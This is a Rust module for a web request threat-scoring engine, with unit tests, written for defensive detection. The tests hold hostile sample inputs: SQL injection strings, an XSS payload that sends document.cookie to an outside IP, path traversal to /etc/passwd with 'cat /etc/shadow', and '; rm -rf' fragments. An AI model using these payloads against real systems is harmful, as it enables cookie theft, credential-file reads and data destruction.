use super::rules::{self, SignatureRule, ThreatType};
use super::stats::{has_binary_control, shannon_entropy, special_char_ratio, truncate_to_boundary};
use crate::config::{ThreatConfig, ThreatScores};
use crate::error::GuardError;
use crate::identity::EndpointCategory;
use serde::Serialize;

/// Per-request facts shared by every analysis of that request's inputs.
#[derive(Debug, Clone)]
pub struct ThreatAnalysisContext {
    pub category: EndpointCategory,
    pub origin: String,
    pub user_agent: Option<String>,
    pub method: String,
    pub path: String,
    pub user_id: Option<String>,
    pub authenticated: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ThreatDetail {
    pub threat_type: ThreatType,
    pub score: u32,
    pub description: String,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ThreatAnalysisResult {
    pub threat_score: u32,
    /// In check order.
    pub details: Vec<ThreatDetail>,
    pub threat_detected: bool,
}

impl ThreatAnalysisResult {
    pub fn clean() -> Self {
        Self::default()
    }

    pub fn has(&self, threat_type: ThreatType) -> bool {
        self.details.iter().any(|d| d.threat_type == threat_type)
    }

    /// Whether any attack signature matched, as opposed to anomalies only.
    pub fn signature_matched(&self) -> bool {
        self.details.iter().any(|d| d.threat_type.is_signature())
    }
}

/// Builds a result one matched check at a time.
#[derive(Debug, Default)]
struct Accumulator {
    score: u32,
    details: Vec<ThreatDetail>,
}

impl Accumulator {
    fn add(&mut self, threat_type: ThreatType, score: u32, description: impl Into<String>) {
        if score == 0 {
            return;
        }
        self.score = self.score.saturating_add(score);
        self.details.push(ThreatDetail {
            threat_type,
            score,
            description: description.into(),
        });
    }

    fn finish(self) -> ThreatAnalysisResult {
        ThreatAnalysisResult {
            threat_detected: self.score > 0,
            threat_score: self.score,
            details: self.details,
        }
    }
}

/// Scores a single input string. Pure and deterministic: no I/O, no shared
/// mutable state, and CPU bounded by `max_scan_bytes`.
pub struct ThreatEngine {
    signatures: Vec<SignatureRule>,
    scores: ThreatScores,
    max_input_length: usize,
    entropy_threshold: f64,
    special_char_ratio: f64,
    max_scan_bytes: usize,
}

impl ThreatEngine {
    pub fn new(config: &ThreatConfig) -> Result<Self, GuardError> {
        let signatures = rules::compile(&config.scores)?;
        tracing::info!(
            "threat: engine ready, signature_checks={}, max_scan_bytes={}",
            signatures.len(),
            config.max_scan_bytes
        );
        Ok(Self {
            signatures,
            scores: config.scores.clone(),
            max_input_length: config.max_input_length,
            entropy_threshold: config.entropy_threshold,
            special_char_ratio: config.special_char_ratio,
            max_scan_bytes: config.max_scan_bytes.max(1),
        })
    }

    pub fn analyze(&self, input: &str, ctx: &ThreatAnalysisContext) -> ThreatAnalysisResult {
        if input.is_empty() {
            return ThreatAnalysisResult::clean();
        }
        let mut acc = Accumulator::default();
        let scanned = truncate_to_boundary(input, self.max_scan_bytes);

        for rule in &self.signatures {
            if rule.matches(scanned) {
                acc.add(rule.threat_type, rule.score, rule.description);
            }
        }

        let length = input.chars().count();
        if length > self.max_input_length {
            acc.add(
                ThreatType::ExcessiveLength,
                self.scores.excessive_length,
                format!("input length {} exceeds {}", length, self.max_input_length),
            );
        }

        let entropy = shannon_entropy(scanned);
        if entropy > self.entropy_threshold {
            acc.add(
                ThreatType::HighEntropy,
                self.scores.high_entropy,
                format!("entropy {:.2} bits/char exceeds {:.2}", entropy, self.entropy_threshold),
            );
        }

        let ratio = special_char_ratio(scanned);
        if ratio > self.special_char_ratio {
            acc.add(
                ThreatType::SpecialChars,
                self.scores.special_chars,
                format!("special character ratio {:.2} exceeds {:.2}", ratio, self.special_char_ratio),
            );
        }

        if has_binary_control(scanned) {
            acc.add(
                ThreatType::BinaryPayload,
                self.scores.binary_payload,
                "control characters outside tab/CR/LF",
            );
        }

        let result = acc.finish();
        if result.threat_detected {
            tracing::trace!(
                "threat: scored input, category={}, origin={}, path={}, score={}, checks={}",
                ctx.category,
                ctx.origin,
                ctx.path,
                result.threat_score,
                result.details.len()
            );
        }
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::Rng;

    fn ctx() -> ThreatAnalysisContext {
        ThreatAnalysisContext {
            category: EndpointCategory::Default,
            origin: "https://shop.example".into(),
            user_agent: Some("test".into()),
            method: "GET".into(),
            path: "/api/search".into(),
            user_id: None,
            authenticated: false,
        }
    }

    fn engine() -> ThreatEngine {
        ThreatEngine::new(&ThreatConfig::default()).unwrap()
    }

    #[test]
    fn test_benign_input_is_clean() {
        let e = engine();
        for input in ["", "hello world", "running shoes size 42", "jane.doe@example.com"] {
            let r = e.analyze(input, &ctx());
            assert!(!r.threat_detected, "{input}");
            assert_eq!(r.threat_score, 0);
            assert!(r.details.is_empty());
        }
    }

    #[test]
    fn test_sql_drop_table() {
        let r = engine().analyze("'; DROP TABLE users; --", &ctx());
        assert!(r.threat_detected);
        let sql = r
            .details
            .iter()
            .find(|d| d.threat_type == ThreatType::SqlInjection)
            .unwrap();
        assert_eq!(sql.score, 30);
        assert!(!r.has(ThreatType::CommandInjection));
    }

    #[test]
    fn test_browser_accept_header_is_anomaly_only() {
        let r = engine().analyze("image/webp,image/*,*/*;q=0.8", &ctx());
        assert!(!r.has(ThreatType::SqlInjection));
        assert!(!r.signature_matched());
        assert_eq!(r.threat_score, 10);
        assert!(r.has(ThreatType::SpecialChars));
    }

    #[test]
    fn test_signature_matched() {
        let e = engine();
        assert!(e.analyze("'; DROP TABLE users; --", &ctx()).signature_matched());
        assert!(!e.analyze("{\"sku\":\"A1\",\"qty\":2}", &ctx()).signature_matched());
        assert!(!ThreatAnalysisResult::clean().signature_matched());
    }

    #[test]
    fn test_each_check_counts_once() {
        // Several XSS patterns match; XSS still contributes once.
        let r = engine().analyze("<script>x</script><iframe onload=y>", &ctx());
        let xss: Vec<_> = r.details.iter().filter(|d| d.threat_type == ThreatType::Xss).collect();
        assert_eq!(xss.len(), 1);
    }

    #[test]
    fn test_score_is_sum_of_details() {
        let e = engine();
        let inputs = [
            "<script>fetch('//10.0.0.1/?c='+document.cookie)</script>",
            "../../etc/passwd; cat /etc/shadow",
            "%253c\\u003c\0",
            "' OR '1'='1",
        ];
        for input in inputs {
            let r = e.analyze(input, &ctx());
            let sum: u32 = r.details.iter().map(|d| d.score).sum();
            assert_eq!(r.threat_score, sum, "{input}");
            assert_eq!(r.threat_detected, sum > 0);
        }
    }

    #[test]
    fn test_additivity_on_random_inputs() {
        let e = engine();
        let fragments = [
            "<script>", "' OR 1=1", "../", "; rm -rf", "eval(", "document.cookie",
            "\\u0041", "%2541", "\u{1}", "hello", " ", "~!@#", "plain",
        ];
        let mut rng = rand::thread_rng();
        for _ in 0..200 {
            let n = rng.gen_range(0..6);
            let input: String = (0..n)
                .map(|_| fragments[rng.gen_range(0..fragments.len())])
                .collect();
            let r = e.analyze(&input, &ctx());
            let sum: u32 = r.details.iter().map(|d| d.score).sum();
            assert_eq!(r.threat_score, sum);
            assert_eq!(r.threat_detected, r.threat_score > 0);
            let mut seen = std::collections::HashSet::new();
            assert!(r.details.iter().all(|d| seen.insert(d.threat_type)));
        }
    }

    #[test]
    fn test_excessive_length() {
        let input = "a".repeat(10_001);
        let r = engine().analyze(&input, &ctx());
        assert_eq!(r.details.len(), 1);
        assert_eq!(r.details[0].threat_type, ThreatType::ExcessiveLength);
        assert_eq!(r.threat_score, 10);

        let r = engine().analyze(&"a".repeat(10_000), &ctx());
        assert!(!r.threat_detected);
    }

    #[test]
    fn test_high_entropy() {
        // 64 distinct chars once each: 6 bits/char.
        let input: String = ('0'..='9').chain('a'..='z').chain('A'..='Z').chain(['+', '/']).collect();
        let r = engine().analyze(&input, &ctx());
        assert!(r.has(ThreatType::HighEntropy));
        assert!(!r.has(ThreatType::SpecialChars));
    }

    #[test]
    fn test_special_chars_and_binary() {
        let r = engine().analyze("a!b@c#d$", &ctx());
        assert!(r.has(ThreatType::SpecialChars));

        let r = engine().analyze("abc\u{0}def", &ctx());
        assert!(r.has(ThreatType::BinaryPayload));
        assert_eq!(r.threat_score, 20);
    }

    #[test]
    fn test_signatures_only_scan_prefix() {
        let cfg = ThreatConfig {
            max_scan_bytes: 16,
            max_input_length: 1_000_000,
            ..ThreatConfig::default()
        };
        let e = ThreatEngine::new(&cfg).unwrap();
        let input = format!("{}<script>", "a".repeat(32));
        assert!(!e.analyze(&input, &ctx()).has(ThreatType::Xss));
        assert!(e.analyze("<script>", &ctx()).has(ThreatType::Xss));
    }

    #[test]
    fn test_configured_scores_apply() {
        let cfg = ThreatConfig {
            scores: ThreatScores {
                sql_injection: 90,
                ..ThreatScores::default()
            },
            ..ThreatConfig::default()
        };
        let r = ThreatEngine::new(&cfg).unwrap().analyze("1 UNION SELECT 1", &ctx());
        assert_eq!(r.threat_score, 90);
    }

    #[test]
    fn test_deterministic() {
        let e = engine();
        let input = "<img src=x onerror=fetch('//1.2.3.4')>";
        assert_eq!(e.analyze(input, &ctx()), e.analyze(input, &ctx()));
    }
}
